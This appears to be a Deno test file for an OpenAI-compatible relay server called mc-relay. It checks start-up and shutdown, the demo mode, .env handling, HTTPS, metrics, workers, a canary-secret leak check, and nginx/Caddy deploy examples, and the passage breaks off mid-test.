/**
 * The real process: start-up and shutdown, the demo, the commands and .env files, HTTPS and the
 * healthcheck, the metrics port, WORKERS, the deploy examples, what `mc-relay usage` prints, and a start
 * with no package registry.
 *
 * Proved through the real HTTP surface (see testing.ts); the last test checks that no secret leaked.
 */
import assert from "node:assert/strict";
import { ENV_VARS, parseConfig, SqliteCounterStore, ThreadLock } from "../main.ts";
import {
  ALLOWED,
  assertNoSecretSeen,
  CANARY_EXTRA,
  CANARY_KEY,
  CANARY_PASSWORD,
  chatBody,
  controlledStream,
  decoder,
  embeddingsUpstream,
  encoder,
  eventually,
  EVIL,
  freePort,
  GOOD_BEARER,
  IN_CI,
  installed,
  minimalEnv,
  openAiLikeUpstream,
  runRelayProcess,
  seenByClientsOrLogs,
  selfSignedCertificate,
  sleep,
  spawnRelay,
  startRelay,
  startUpstream,
  testConfig,
  USERNAME,
  within,
} from "./testing.ts";

/** The project's folder, where `deno task` finds deno.json and the lock files. */
const PROJECT = new URL("..", import.meta.url).pathname;

/** An empty Deno cache and a registry address where nothing listens: any package fetch fails at once. */
async function offline(): Promise<Record<string, string>> {
  return {
    DENO_DIR: await Deno.makeTempDir({ prefix: "mc-relay-empty-cache-" }),
    NPM_CONFIG_REGISTRY: "http://127.0.0.1:9/",
  };
}

/** RFC 4180 CSV: quoted cells with doubled quotes; lines end in LF. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let index = 0; index < text.length; index++) {
    const char = text[index];
    if (quoted) {
      if (char === '"' && text[index + 1] === '"') {
        cell += '"';
        index++;
      } else if (char === '"') quoted = false;
      else cell += char;
    } else if (char === '"') quoted = true;
    else if (char === ",") {
      row.push(cell);
      cell = "";
    } else if (char === "\n") {
      rows.push([...row, cell]);
      row = [];
      cell = "";
    } else cell += char;
  }
  if (cell !== "" || row.length > 0) rows.push([...row, cell]);
  return rows;
}

/** Sends SIGTERM, waits until the relay says it is shutting down, and checks that a new connection is refused. */
async function sigtermAndAskAgain(relay: Awaited<ReturnType<typeof spawnRelay>>) {
  relay.child.kill("SIGTERM");
  await eventually(5000, () => relay.output().stdout.includes("shutting down"), "the relay did not react to SIGTERM");
  const answer = await fetch(`${relay.url}/health`).then(
    (response) => response.body?.cancel().then(() => response.status),
    () => "refused",
  );
  assert.equal(answer, "refused", "no new connections during shutdown");
}

Deno.test("process: start-up and shutdown", async (t) => {
  await using upstream = startUpstream(openAiLikeUpstream);
  const withoutTaskLine = (stderr: string) => stderr.split("\n").filter((line) => line && !/^Task /.test(line));

  await t.step("start-up prints the listening URL, the upstream host and the allowed origins", async () => {
    await using upstream = startUpstream(openAiLikeUpstream);
    const relay = await spawnRelay({ ...minimalEnv, UPSTREAM_BASE_URL: `${upstream.url}/v1`, ALLOWED_ORIGIN: ALLOWED });
    assert.match(relay.url, /^http:\/\/127\.0\.0\.1:\d+$/);
    assert.equal(relay.listening.upstream, new URL(upstream.url).host);
    assert.deepEqual(relay.listening.allowed_origins, [ALLOWED]);
    relay.child.kill("SIGTERM");
    assert.equal((await relay.finished()).code, 0);
  });

  await t.step("SIGTERM stops new connections, lets in-flight streams finish, and exits 0", async () => {
    const stream = controlledStream();
    // The relay's start-up check asks for the model list; the one stream is for the chat.
    await using upstream = startUpstream((request, seen) =>
      seen.path.endsWith("/models")
        ? openAiLikeUpstream(request, seen)
        : new Response(stream.body, { headers: { "content-type": "text/event-stream" } })
    );
    const relay = await spawnRelay({ ...minimalEnv, UPSTREAM_BASE_URL: upstream.url, SHUTDOWN_TIMEOUT_SECONDS: "10" });
    const response = await fetch(`${relay.url}/v1/chat/completions`, {
      method: "POST",
      headers: { authorization: GOOD_BEARER },
      body: chatBody({ stream: true }),
    });
    const reader = response.body!.getReader();
    stream.send("data: before\n\n");
    await reader.read();
    await sigtermAndAskAgain(relay);
    stream.send("data: after\n\n");
    assert.equal(decoder.decode((await reader.read()).value), "data: after\n\n");
    stream.close();
    assert.ok((await reader.read()).done, "the in-flight stream finished cleanly");
    const status = await within(5000, relay.finished(), "the relay did not exit after draining");
    assert.equal(status.code, 0);
  });

  await t.step("SIGTERM with 100 streams running: they all finish, new connections are refused, exit 0", async () => {
    let open!: () => void;
    const gate = new Promise<void>((resolve) => (open = resolve));
    await using upstream = startUpstream(() => {
      let step = 0;
      const body = new ReadableStream<Uint8Array>({
        async pull(controller) {
          if (step++ === 0) return controller.enqueue(encoder.encode("data: start\n\n"));
          await gate;
          controller.enqueue(encoder.encode("data: end\n\n"));
          controller.close();
        },
      });
      return new Response(body, { headers: { "content-type": "text/event-stream" } });
    });
    const relay = await spawnRelay({ ...minimalEnv, UPSTREAM_BASE_URL: upstream.url, SHUTDOWN_TIMEOUT_SECONDS: "20" });
    const readers = await Promise.all(Array.from({ length: 100 }, async () => {
      const response = await fetch(`${relay.url}/v1/chat/completions`, {
        method: "POST",
        headers: { authorization: GOOD_BEARER },
        body: chatBody({ stream: true }),
      });
      const reader = response.body!.pipeThrough(new TextDecoderStream()).getReader();
      assert.equal((await reader.read()).value, "data: start\n\n");
      return reader;
    }));
    await sigtermAndAskAgain(relay);
    open();
    const endings = await Promise.all(readers.map(async (reader) => {
      let rest = "";
      for (let chunk = await reader.read(); !chunk.done; chunk = await reader.read()) rest += chunk.value;
      return rest;
    }));
    assert.deepEqual(new Set(endings), new Set(["data: end\n\n"]), "every stream finished with its last event");
    assert.equal((await within(10000, relay.finished(), "the relay did not exit after draining")).code, 0);
  });

  await t.step("no command prints a warning: --version, --help, a start and the demo through the tasks", async () => {
    for (const flag of ["--version", "--help"]) {
      const output = await runRelayProcess({}, [flag], { deno: ["task", "start"] });
      assert.equal(output.code, 0);
      assert.deepEqual(withoutTaskLine(output.stderr), [], `deno task start ${flag} printed to stderr`);
    }
    const relay = await spawnRelay({
      ...minimalEnv,
      UPSTREAM_BASE_URL: upstream.url,
      HOST: "127.0.0.1",
      ALLOWED_ORIGIN: ALLOWED,
    });
    const demo = await spawnRelay({}, ["demo"]);
    for (const process of [relay, demo]) {
      process.child.kill("SIGTERM");
      await process.finished();
      assert.equal(process.output().stderr, "", "a start prints nothing on stderr");
      assert.doesNotMatch(process.output().stdout, /"level":"warn"/, "a local start with origins set has no warning");
    }
  });

  await t.step(
    "a port in use, an address not on this machine, a certificate that does not fit: one line, exit 1",
    async () => {
      const taken = Deno.listen({ hostname: "127.0.0.1", port: 0 });
      const port = (taken.addr as Deno.NetAddr).port;
      try {
        const busy = await runRelayProcess({ ...minimalEnv, HOST: "127.0.0.1", PORT: String(port) });
        assert.equal(busy.code, 1);
        assert.match(
          busy.stderr,
          new RegExp(`PORT ${port}: 127\\.0\\.0\\.1:${port} is already in use by another program`),
        );
        assert.doesNotMatch(busy.stderr, /^\s+at /m, "no stack trace");
      } finally {
        taken.close();
      }
      const elsewhere = await runRelayProcess({ ...minimalEnv, HOST: "192.0.2.1", PORT: "0" });
      assert.equal(elsewhere.code, 1);
      assert.match(elsewhere.stderr, /HOST 192\.0\.2\.1 is not an address of this machine/);
      await using first = await selfSignedCertificate();
      await using second = await selfSignedCertificate();
      const mismatched = await runRelayProcess({
        ...minimalEnv,
        HOST: "127.0.0.1",
        PORT: "0",
        TLS_CERT_FILE: first.certFile,
        TLS_KEY_FILE: second.keyFile,
      });
      assert.equal(mismatched.code, 1);
      assert.match(
        mismatched.stderr,
        /TLS_CERT_FILE and TLS_KEY_FILE do not hold a certificate chain and its private key/,
      );
      assert.doesNotMatch(mismatched.stderr, /^\s+at /m);
    },
  );
});

/** Waits until the relay process has printed a log line matching `pattern` and returns it, parsed. */
async function logLine(relay: Awaited<ReturnType<typeof spawnRelay>>, pattern: RegExp) {
  return await within(
    10000,
    (async () => {
      for (;;) {
        const line = relay.output().stdout.split("\n").find((line) => pattern.test(line));
        if (line) return JSON.parse(line);
        await sleep(20);
      }
    })(),
    `the relay printed no line matching ${pattern}`,
  );
}

Deno.test("process: the start-up check", async (t) => {
  await t.step("a base URL without /v1 whose /v1/models answers: a warning says to add /v1", async () => {
    await using upstream = startUpstream((request, seen) =>
      seen.path.startsWith("/v1/")
        ? openAiLikeUpstream(request, seen)
        : new Response("404 page not found", { status: 404 })
    );
    const relay = await spawnRelay({ ...minimalEnv, UPSTREAM_BASE_URL: upstream.url, ALLOWED_ORIGIN: ALLOWED });
    const warning = await logLine(relay, /"level":"warn".*add \/v1/);
    assert.match(warning.msg, /answers 404 at .*\/models but serves .*\/v1\/models: add \/v1 to UPSTREAM_BASE_URL/);
    relay.child.kill("SIGTERM");
    assert.equal((await relay.finished()).code, 0);
  });

  await t.step("an upstream that does not answer at start: a warning, and the relay serves anyway", async () => {
    const relay = await spawnRelay({ ...minimalEnv, UPSTREAM_BASE_URL: `http://127.0.0.1:${freePort()}/v1` });
    const warning = await logLine(relay, /"level":"warn".*does not answer/);
    assert.match(warning.msg, /upstream "default" \(127\.0\.0\.1:\d+\) does not answer \(connection refused\)/);
    assert.equal((await fetch(`${relay.url}/health`).then((response) => response.json())).ok, true);
    relay.child.kill("SIGTERM");
    assert.equal((await relay.finished()).code, 0);
  });

  await t.step(
    "an upstream that lists no model and no DEFAULT_MODEL: a warning says to set DEFAULT_MODEL",
    async () => {
      await using upstream = startUpstream(() => Response.json({ object: "list", data: [] }));
      const relay = await spawnRelay({ ...minimalEnv, UPSTREAM_BASE_URL: upstream.url, ALLOWED_ORIGIN: ALLOWED });
      const warning = await logLine(relay, /"level":"warn".*DEFAULT_MODEL/);
      assert.match(warning.msg, /no model for MetaConfigurator: .*set DEFAULT_MODEL, e\.g\. DEFAULT_MODEL=/);
      relay.child.kill("SIGTERM");
      assert.equal((await relay.finished()).code, 0);
    },
  );
});

Deno.test("process: the start-up banner", async (t) => {
  await using upstream = startUpstream(openAiLikeUpstream);

  await t.step(
    "BANNER=true prints the page, the one link and the values for MC and an SDK on stderr; stdout stays JSON",
    async () => {
      const relay = await spawnRelay({ ...minimalEnv, UPSTREAM_BASE_URL: `${upstream.url}/v1`, BANNER: "true" });
      await eventually(10000, () => relay.output().stderr.includes("BANNER=false"), "no banner on stderr");
      const base = `http://localhost:${new URL(relay.url).port}`;
      const { stderr } = relay.output();
      assert.ok(stderr.includes(`This relay's page:          ${base}/\n`), stderr);
      assert.ok(stderr.includes(mcLink(`${base}/mc-settings.json`)), "the one link");
      assert.match(
        stderr,
        new RegExp(`Relay URL ${base}  \\(without /v1\\)\n +Endpoint  upstream:default\n +Model     gpt-test\n`),
      );
      assert.ok(stderr.includes(`baseURL:    ${base}/v1\n`));
      assert.ok(!stderr.includes(new URL(upstream.url).host), "no internal upstream address");
      relay.child.kill("SIGTERM");
      assert.equal((await relay.finished()).code, 0);
      for (const line of relay.output().stdout.split("\n").filter(Boolean)) JSON.parse(line);
      assert.ok(!stderr.includes(CANARY_KEY) && !stderr.includes(CANARY_PASSWORD), "nothing secret");
    },
  );

  await t.step(
    "the banner of a relay with the bare relay password asks for that password, not a user name",
    async () => {
      const { MC_RELAY_USERNAME: _name, ...bare } = minimalEnv;
      const relay = await spawnRelay({ ...bare, UPSTREAM_BASE_URL: `${upstream.url}/v1`, BANNER: "true" });
      await eventually(10000, () => relay.output().stderr.includes("BANNER=false"), "no banner on stderr");
      relay.child.kill("SIGTERM");
      await relay.finished();
      const { stderr } = relay.output();
      assert.match(stderr, /the relay password \(MC_RELAY_PASSWORD\)/);
      assert.doesNotMatch(stderr, /username:password/);
      assert.ok(!stderr.includes(CANARY_PASSWORD), "nothing secret");
    },
  );

  await t.step("without a terminal on stderr (and by default) there is no banner: stderr stays empty", async () => {
    const relay = await spawnRelay({ ...minimalEnv, UPSTREAM_BASE_URL: `${upstream.url}/v1` });
    await logLine(relay, /"msg":"mc-relay [^"]+ listening"/);
    await sleep(300);
    relay.child.kill("SIGTERM");
    await relay.finished();
    assert.equal(relay.output().stderr, "");
  });
});

/** MC's one-link URL for a settings document. */
const mcLink = (settings: string) => `https://www.metaconfigurator.org/?settings=${encodeURIComponent(settings)}`;

Deno.test("process: the demo", async (t) => {
  await t.step(
    "the demo runs with nothing configured, prints URL, credentials and a curl line, and streams",
    async () => {
      const relay = await spawnRelay({}, ["demo"]);
      await eventually(
        5000,
        () => relay.output().stdout.includes("Stop with Ctrl+C"),
        "the demo printed no banner",
        10,
      );
      const { stdout } = relay.output();
      const apiKey = /API key \(username:password\):\s+(\S+)/.exec(stdout)![1];
      const port = new URL(relay.url).port;
      assert.match(stdout, new RegExp(`Relay URL http://localhost:${port}  \\(without /v1\\)`), "MC's value: no /v1");
      assert.match(stdout, new RegExp(`baseURL: +http://localhost:${port}/v1\n`), "an SDK's value: with /v1");
      assert.match(stdout, new RegExp(`settings=http%3A%2F%2Flocalhost%3A${port}%2Fmc-settings\\.json`));
      assert.match(stdout, /curl -N http:\/\/localhost:\d+\/v1\/chat\/completions -H "Authorization: Bearer demo:/);
      const response = await fetch(`${relay.url}/v1/chat/completions`, {
        method: "POST",
        headers: { authorization: `Bearer ${apiKey}`, "content-type": "application/json" },
        body: JSON.stringify({ model: "echo", stream: true, messages: [{ role: "user", content: "ping pong" }] }),
      });
      const text = await response.text();
      const content = text.split("\n").filter((line) => line.startsWith("data: {"))
        .map((line) => JSON.parse(line.slice(6)).choices[0].delta.content ?? "").join("");
      assert.equal(content, "Echo: ping pong");
      assert.ok(text.endsWith("data: [DONE]\n\n"));
      assert.ok(!text.includes('"usage"'), "the usage event the relay asked for is not passed on");
      relay.child.kill("SIGTERM");
      assert.equal((await relay.finished()).code, 0);
      assert.match(
        relay.output().stdout,
        /"model":"echo","usage":\{"prompt_tokens":2,"completion_tokens":3,"total_tokens":5\}/,
        "the demo's log line shows the stream's token usage",
      );
    },
  );

  await t.step("the demo refuses to start when UPSTREAM_BASE_URL is set", async () => {
    const output = await runRelayProcess({ UPSTREAM_BASE_URL: "https://api.openai.com/v1" }, ["demo"]);
    assert.equal(output.code, 1);
    assert.match(output.stderr, /UPSTREAM_BASE_URL is set, so the demo will not start/);
  });
});

Deno.test("process: commands and .env files", async (t) => {
  await using upstream = startUpstream(openAiLikeUpstream);
  const here = new URL("..", import.meta.url).pathname;

  await t.step("--version and --help answer without configuration", async () => {
    const version = await runRelayProcess({}, ["--version"]);
    assert.equal(version.code, 0);
    const changelog = await Deno.readTextFile(new URL("../CHANGELOG.md", import.meta.url));
    const newest = /^## \[(\d+\.\d+\.\d+)\]/m.exec(changelog)![1];
    assert.equal(version.stdout.trim(), `mc-relay ${newest}`);
    const help = await runRelayProcess({}, ["--help"]);
    assert.equal(help.code, 0);
    for (const name of ENV_VARS) assert.ok(help.stdout.includes(name), `--help documents ${name}`);
  });

  await t.step("deno task start reads .env, --env-file reads any file, and the real environment wins", async () => {
    const folder = await Deno.makeTempDir({ prefix: "mc-relay-env-" });
    for (const file of ["deno.json", "deno.lock", "main.ts"]) {
      await Deno.copyFile(`${here}${file}`, `${folder}/${file}`);
    }
    // main.ts is the entry; the relay's modules are under src/ (the test files there are not needed).
    const copyModules = async (from: string, to: string): Promise<void> => {
      await Deno.mkdir(to, { recursive: true });
      for await (const entry of Deno.readDir(from)) {
        if (entry.isDirectory) await copyModules(`${from}/${entry.name}`, `${to}/${entry.name}`);
        else if (!entry.name.endsWith("_test.ts")) await Deno.copyFile(`${from}/${entry.name}`, `${to}/${entry.name}`);
      }
    };
    await copyModules(`${here}src`, `${folder}/src`);
    await Deno.writeTextFile(
      `${folder}/.env`,
      [
        "# a comment",
        "UPSTREAM_BASE_URL=http://127.0.0.1:9/not-this-one",
        `UPSTREAM_API_KEY="${CANARY_KEY}"`,
        `MC_RELAY_USERNAME=${USERNAME}`,
        `MC_RELAY_PASSWORD='${CANARY_PASSWORD}'`,
        "HOST=127.0.0.1",
        "PORT=0",
        "ALLOWED_ORIGIN=http://localhost:5173",
        "UPSTREAM_BASE_URI=typo",
      ].join("\n"),
    );
    // HOST and PORT come from the .env file; the real environment sets only the upstream.
    const relay = await spawnRelay({ UPSTREAM_BASE_URL: upstream.url }, [], { cwd: folder, deno: ["task", "start"] });
    try {
      const models = await fetch(`${relay.url}/v1/models`, { headers: { authorization: GOOD_BEARER } });
      assert.equal(models.status, 200, "credentials from .env, upstream from the real environment");
      await models.body?.cancel();
      assert.match(relay.output().stdout, /\.env sets UPSTREAM_BASE_URI, which the relay does not read/);
    } finally {
      relay.child.kill("SIGTERM");
      await relay.finished();
    }
    const missing = await runRelayProcess({}, ["--env-file", `${folder}/nowhere.env`]);
    assert.equal(missing.code, 1);
    assert.match(missing.stderr, /--env-file names ".*nowhere\.env", which cannot be read \(NotFound\)/);
    const unread = await runRelayProcess({}, [], { cwd: folder });
    assert.equal(unread.code, 1);
    assert.match(
      unread.stderr,
      /A \.env file is in this folder but was not read: run 'mc-relay --env-file \.env'/,
    );
    await Deno.remove(folder, { recursive: true });
  });
});

Deno.test("process: https and healthcheck", async (t) => {
  await using tls = await selfSignedCertificate();
  await using upstream = startUpstream((request, seen) =>
    seen.body.includes('"stream":true')
      ? new Response("data: one\n\ndata: [DONE]\n\n", { headers: { "content-type": "text/event-stream" } })
      : openAiLikeUpstream(request, seen)
  );
  const env = {
    ...minimalEnv,
    UPSTREAM_BASE_URL: upstream.url,
    TLS_CERT_FILE: tls.certFile,
    TLS_KEY_FILE: tls.keyFile,
  };

  await t.step("with TLS_CERT_FILE and TLS_KEY_FILE the relay serves HTTPS, streams included", async () => {
    const relay = await spawnRelay(env);
    try {
      assert.match(relay.url, /^https:\/\/127\.0\.0\.1:\d+$/);
      using client = Deno.createHttpClient({ caCerts: [tls.cert] });
      const models = await fetch(`${relay.url}/v1/models`, { client, headers: { authorization: GOOD_BEARER } });
      assert.equal(models.status, 200);
      assert.equal((await models.json()).data[0].id, "gpt-test");
      const streamed = await fetch(`${relay.url}/v1/chat/completions`, {
        client,
        method: "POST",
        headers: { authorization: GOOD_BEARER, "content-type": "application/json" },
        body: chatBody({ stream: true }),
      });
      assert.equal(streamed.headers.get("content-type"), "text/event-stream");
      assert.equal(await streamed.text(), "data: one\n\ndata: [DONE]\n\n");
      const port = new URL(relay.url).port;

      const healthy = await runRelayProcess({ ...env, PORT: port, HOST: "127.0.0.1" }, ["healthcheck"]);
      assert.equal(healthy.code, 0, healthy.stdout);
      assert.equal(healthy.stdout.trim(), "healthy");
    } finally {
      relay.child.kill("SIGTERM");
      await relay.finished();
    }
  });

  await t.step("healthcheck answers 0 for a running plain-HTTP relay and 1 when none answers", async () => {
    const relay = await spawnRelay({ ...minimalEnv, UPSTREAM_BASE_URL: upstream.url });
    const port = new URL(relay.url).port;
    const healthy = await runRelayProcess({ PORT: port, HOST: "0.0.0.0" }, ["healthcheck"]);
    assert.equal(healthy.code, 0, healthy.stdout);
    relay.child.kill("SIGTERM");
    await relay.finished();
    const unhealthy = await runRelayProcess({ PORT: port }, ["healthcheck"]);
    assert.equal(unhealthy.code, 1);
    assert.match(unhealthy.stdout, /^unhealthy: /);
  });

  await t.step("an unreadable TLS file stops the start with exit code 1, naming the variable", async () => {
    const output = await runRelayProcess({ ...env, TLS_KEY_FILE: `${tls.keyFile}.missing` });
    assert.equal(output.code, 1);
    assert.match(output.stderr, /TLS_KEY_FILE names ".*key\.pem\.missing", which cannot be read \(NotFound\)/);
  });

  await t.step("a file that is not PEM is refused", async () => {
    const output = await runRelayProcess({ ...env, TLS_CERT_FILE: new URL("../deno.json", import.meta.url).pathname });
    assert.equal(output.code, 1);
    assert.match(output.stderr, /TLS_CERT_FILE must name a PEM file/);
  });
});

Deno.test("process: the metrics port", async (t) => {
  await using upstream = embeddingsUpstream();

  await t.step("METRICS_PORT serves /metrics on its own port without auth", async () => {
    const metricsPort = freePort();
    const relay = await spawnRelay({
      ...minimalEnv,
      UPSTREAM_BASE_URL: upstream.url,
      METRICS_PORT: String(metricsPort),
    });
    try {
      await fetch(`${relay.url}/v1/models`, { headers: { authorization: GOOD_BEARER } }).then((r) => r.arrayBuffer());
      // The count is taken when the response has been delivered, a moment after the client has it.
      const line = /^mc_relay_requests_total\{route="\/v1\/models",status="200",user="team"\} 1$/m;
      let metrics = "";
      for (let tries = 0; tries < 50 && !line.test(metrics); tries++) {
        metrics = await fetch(`http://127.0.0.1:${metricsPort}/metrics`).then((r) => r.text());
        await sleep(20);
      }
      assert.match(metrics, line);
      assert.equal(
        await fetch(`${relay.url}/metrics`, { headers: { authorization: GOOD_BEARER } }).then((r) =>
          r.body?.cancel().then(() => r.status)
        ),
        404,
        "not on the main port unless METRICS names users",
      );
    } finally {
      relay.child.kill("SIGTERM");
      await relay.finished();
    }
  });
});

Deno.test("process: secrets and the metrics port [security]", async (t) => {
  await using upstream = startUpstream(openAiLikeUpstream);

  await t.step("a real process with canary secrets prints and returns none of them", async () => {
    await using upstream = startUpstream(openAiLikeUpstream);
    const relay = await spawnRelay({
      ...minimalEnv,
      UPSTREAM_BASE_URL: upstream.url,
      ALLOWED_ORIGIN: ALLOWED,
      LOG_LEVEL: "debug",
      UPSTREAM_EXTRA_HEADERS_JSON: JSON.stringify({ "X-Extra-Secret": CANARY_EXTRA }),
    });
    const requests: [string, RequestInit][] = [
      ["/v1/models", { headers: { authorization: GOOD_BEARER } }],
      ["/v1/models", { headers: { authorization: `Bearer ${USERNAME}:${CANARY_PASSWORD}-wrong` } }],
      ["/v1/models", { headers: { authorization: `Bearer ${CANARY_KEY}` } }],
      ["/v1/chat/completions", {
        method: "POST",
        headers: { authorization: GOOD_BEARER, origin: ALLOWED },
        body: chatBody(),
      }],
      ["/v1/chat/completions", {
        method: "POST",
        headers: { authorization: GOOD_BEARER, origin: EVIL },
        body: chatBody(),
      }],
    ];
    for (const [path, init] of requests) {
      const response = await fetch(`${relay.url}${path}`, init);
      seenByClientsOrLogs.push(await response.text(), JSON.stringify([...response.headers]));
    }
    relay.child.kill("SIGTERM");
    await relay.finished();
    const { stdout, stderr } = relay.output();
    for (const secret of [CANARY_KEY, CANARY_EXTRA]) {
      assert.ok(!stdout.includes(secret) && !stderr.includes(secret), "a secret was printed");
    }
    assert.ok(!stdout.includes(CANARY_PASSWORD) && !stderr.includes(CANARY_PASSWORD), "the password was printed");
  });

  await t.step("the metrics port listens on loopback unless METRICS_HOST names an address", async () => {
    const relay = await spawnRelay({
      ...minimalEnv,
      UPSTREAM_BASE_URL: upstream.url,
      HOST: "0.0.0.0",
      METRICS_PORT: String(freePort()),
    });
    try {
      const served = relay.output().stdout.split("\n").find((line) => line.includes('"metrics served"'));
      assert.match(served ?? "", /"url":"http:\/\/127\.0\.0\.1:\d+\/metrics"/);
    } finally {
      relay.child.kill("SIGTERM");
      await relay.finished();
    }
  });
});

Deno.test("process: workers", async (t) => {
  await using upstream = startUpstream(openAiLikeUpstream);

  await t.step("WORKERS above 1 refuses to start without a shared store, naming both ways", async () => {
    const refused = await runRelayProcess({ ...minimalEnv, WORKERS: "2" });
    assert.equal(refused.code, 1);
    assert.match(
      refused.stderr,
      /WORKERS=2 needs STATE_PATH or REDIS_URL, so that all workers count limits and budgets together/,
    );
    const bad = parseConfig({ ...minimalEnv, WORKERS: "many" });
    assert.ok(!bad.ok);
    assert.match(bad.errors[0], /^WORKERS must be a number of threads, e.g. 2, or auto/);
    const auto = parseConfig({ ...minimalEnv, WORKERS: "auto", STATE_PATH: "/tmp/x.db" });
    assert.ok(auto.ok);
    assert.equal(auto.config.workers, navigator.hardwareConcurrency);
  });

  await t.step(
    "threads sharing a ThreadLock take turns: a waiting thread wakes when the lock is given up, or gives up itself",
    async () => {
      const lock = new ThreadLock();
      assert.ok(lock.acquire(0), "a free lock is taken at once");
      const source = `import { ThreadLock } from ${JSON.stringify(new URL("../main.ts", import.meta.url).href)};
        self.onmessage = (event) => {
          const lock = new ThreadLock(event.data);
          self.postMessage({ tookHeldLock: lock.acquire(50) });
          const started = performance.now();
          const took = lock.acquire(10_000);
          self.postMessage({ took, waitedMs: performance.now() - started });
          if (took) lock.release();
        };`;
      const url = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
      const worker = new Worker(url, { type: "module" });
      const messages: Record<string, unknown>[] = [];
      const next = () =>
        within(
          10_000,
          new Promise<Record<string, unknown>>((resolve) => (worker.onmessage = (event) => resolve(event.data))),
          "the thread did not answer",
        );
      try {
        worker.postMessage(lock.memory);
        messages.push(await next());
        assert.deepEqual(
          messages[0],
          { tookHeldLock: false },
          "a held lock is not taken; the wait ends at its timeout",
        );
        const answered = next();
        await sleep(200);
        lock.release();
        messages.push(await answered);
        assert.equal(messages[1].took, true);
        assert.ok((messages[1].waitedMs as number) >= 150, "it waited while the lock was held");
        assert.ok((messages[1].waitedMs as number) < 5_000, "it woke when the lock was given up, not at its timeout");
        assert.ok(lock.acquire(5_000), "the thread gave the lock up again");
        lock.release();
      } finally {
        worker.terminate();
        URL.revokeObjectURL(url);
      }
    },
  );

  await t.step(
    "two workers on one port and one SQLite file: limits stay exact, and SIGTERM stops them all",
    async () => {
      const folder = await Deno.makeTempDir({ prefix: "mc-relay-workers-" });
      const relay = await spawnRelay({
        ...minimalEnv,
        UPSTREAM_BASE_URL: upstream.url,
        WORKERS: "2",
        STATE_PATH: `${folder}/state.db`,
        RATE_LIMIT_PER_MINUTE: "10",
      });
      try {
        assert.equal(relay.listening.workers, 2);
        // Fresh connections each, so the kernel spreads them over both threads.
        const statuses = await Promise.all(Array.from({ length: 30 }, async () => {
          using client = Deno.createHttpClient({ poolMaxIdlePerHost: 0 });
          const response = await fetch(`${relay.url}/v1/models`, { client, headers: { authorization: GOOD_BEARER } });
          await response.body?.cancel();
          return response.status;
        }));
        assert.equal(statuses.filter((status) => status === 200).length, 10, `statuses: ${statuses}`);
        assert.equal(statuses.filter((status) => status === 429).length, 20);
      } finally {
        relay.child.kill("SIGTERM");
        const status = await within(15_000, relay.finished(), "the relay did not stop");
        assert.equal(status.code, 0);
        await Deno.remove(folder, { recursive: true });
      }
    },
  );
});

Deno.test("process: deploy examples", async (t) => {
  const here = new URL("..", import.meta.url).pathname;

  await t.step({
    name: "examples/nginx.conf passes nginx -t on the nginx installed here",
    ignore: !installed("nginx") && !IN_CI,
    fn: async () => {
      await using cert = await selfSignedCertificate();
      const folder = await Deno.makeTempDir({ prefix: "mc-relay-nginx-" });
      const example = (await Deno.readTextFile(`${here}examples/nginx.conf`))
        .replaceAll("/etc/letsencrypt/live/relay.example.com/fullchain.pem", cert.certFile)
        .replaceAll("/etc/letsencrypt/live/relay.example.com/privkey.pem", cert.keyFile);
      await Deno.writeTextFile(`${folder}/site.conf`, example);
      await Deno.writeTextFile(
        `${folder}/nginx.conf`,
        `pid ${folder}/nginx.pid;\nerror_log stderr;\nevents {}\nhttp {\n  access_log off;\n  include ${folder}/site.conf;\n}\n`,
      );
      const output = await new Deno.Command("nginx", { args: ["-t", "-p", folder, "-c", `${folder}/nginx.conf`] })
        .output();
      const text = decoder.decode(output.stderr);
      await Deno.remove(folder, { recursive: true });
      assert.equal(output.code, 0, text);
      assert.match(text, /test is successful/);
    },
  });

  await t.step(
    "the deployments behind a proxy set TRUST_PROXY, and .env.example keeps the image's shutdown time",
    async () => {
      for (
        const file of ["examples/kubernetes.yaml", "examples/docker-compose.yml", "examples/docker-compose.redis.yml"]
      ) {
        assert.match(await Deno.readTextFile(`${here}${file}`), /TRUST_PROXY/, file);
      }
      const dockerfile = await Deno.readTextFile(`${here}Dockerfile`);
      const imageValue = /SHUTDOWN_TIMEOUT_SECONDS=(\d+)/.exec(dockerfile)![1];
      assert.match(
        await Deno.readTextFile(`${here}examples/.env.example`),
        new RegExp(`^SHUTDOWN_TIMEOUT_SECONDS=${imageValue}$`, "m"),
      );
    },
  );
});

Deno.test({
  name: "process: deploy examples behind Caddy",
  // .ci/run installs caddy; elsewhere the test runs only where caddy is installed.
  ignore: !IN_CI && !installed("caddy"),
}, async (t) => {
  await t.step(
    "examples/Caddyfile with an internal certificate streams a chat over HTTPS, chunk by chunk",
    async () => {
      const stream = controlledStream();
      await using upstream = startUpstream((_request, seen) =>
        seen.path === "/chat/completions"
          ? new Response(stream.body, { headers: { "content-type": "text/event-stream" } })
          : openAiLikeUpstream(_request, seen)
      );
      const relay = await spawnRelay({ ...minimalEnv, UPSTREAM_BASE_URL: upstream.url, ALLOWED_ORIGIN: ALLOWED });
      const folder = await Deno.makeTempDir({ prefix: "mc-relay-caddy-" });
      const httpsPort = freePort();
      const config = `${folder}/Caddyfile`;
      // The example is used unchanged; only the test's global options (local CA, free ports) join its global block.
      const example = await Deno.readTextFile(new URL("../examples/Caddyfile", import.meta.url));
      const globalBlock = example.indexOf("\n{\n");
      assert.ok(globalBlock > 0, "the example opens with a global options block");
      await Deno.writeTextFile(
        config,
        `${
          example.slice(0, globalBlock)
        }\n{\n\tadmin off\n\tlocal_certs\n\tskip_install_trust\n\tauto_https disable_redirects\n\thttp_port ${freePort()}\n\thttps_port ${httpsPort}\n\tstorage file_system ${folder}/data\n${
          example.slice(globalBlock + 3)
        }`,
      );
      const caddy = new Deno.Command("caddy", {
        args: ["run", "--config", config, "--adapter", "caddyfile"],
        env: {
          MC_RELAY_DOMAIN: `localhost:${httpsPort}`,
          MC_RELAY_UPSTREAM: new URL(relay.url).host,
          XDG_DATA_HOME: folder,
          XDG_CONFIG_HOME: folder,
          HOME: folder,
        },
        stdout: "null",
        stderr: "piped",
      }).spawn();
      const caddyLog = caddy.stderr.pipeThrough(new TextDecoderStream()).pipeTo(new WritableStream());
      try {
        const rootFile = `${folder}/data/pki/authorities/local/root.crt`;
        const root = await within(
          15000,
          (async () => {
            while (true) {
              try {
                return await Deno.readTextFile(rootFile);
              } catch {
                await sleep(100);
              }
            }
          })(),
          "caddy did not create its local certificate authority",
        );
        using client = Deno.createHttpClient({ caCerts: [root] });
